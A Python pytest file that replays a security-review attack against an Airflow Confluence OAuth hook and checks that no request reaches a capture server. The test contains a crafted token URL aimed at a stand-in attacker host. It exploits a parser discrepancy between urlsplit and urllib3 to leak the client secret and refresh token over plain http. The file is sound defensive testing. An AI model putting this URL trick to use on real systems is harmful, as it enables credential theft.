"""The attacks of the security review, each replayed against the provider (SECURITY.md names these tests).

Each test plays the attacker with what that role really has: a connection editor edits fields of a
connection row (never seeing its secrets), a host on the network answers what it likes, a local process
opens sockets. An attack is shown to fail by what reached the attacker's host (``CaptureServer`` records
every request and connection), not by the error text alone.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from airflow_provider_confluence.exceptions import ConfluenceConfigError, ConfluenceError
from airflow_provider_confluence.hooks.confluence import ConfluenceOAuthHook
from conftest import put_connection
from helpers.capture import CaptureServer, reroute

pytestmark = pytest.mark.airflow2


def _attempt(call: Any) -> ConfluenceError | None:
    try:
        call()
    except ConfluenceError as exc:
        return exc
    return None


# -- 1. the https check and the host urllib3 really connects to --------------------------------------------


def test_a_url_that_urlsplit_and_urllib3_read_differently_sends_nothing(fake_atlassian, airflow_db, monkeypatch):
    """``http://attacker.example:8080\\@127.0.0.1/...``: ``urlsplit`` reads the loopback host after the ``@``, so
    plain http passed the https check, while urllib3 (which sends the request) reads ``attacker.example:8080``
    before the backslash. The client secret and the refresh token went there in clear text."""
    with CaptureServer() as attacker:
        asked = reroute(monkeypatch, "attacker.example", 8080, ("127.0.0.1", attacker.port))
        conn = fake_atlassian.connection("split_url", token_store="connection",
                                         token_url="http://attacker.example:8080\\@127.0.0.1/oauth/token")
        put_connection("split_url", conn)
        error = _attempt(lambda: ConfluenceOAuthHook("split_url").get_access_token())
    assert not attacker.requests, f"urllib3 sent {attacker.requests} to attacker.example over plain http"
    assert ("attacker.example", 8080) not in asked
    assert isinstance(error, ConfluenceConfigError), repr(error)
    assert "token_url" in error.message and "backslash" in error.message
    assert fake_atlassian.counters["token_requests"] == 0
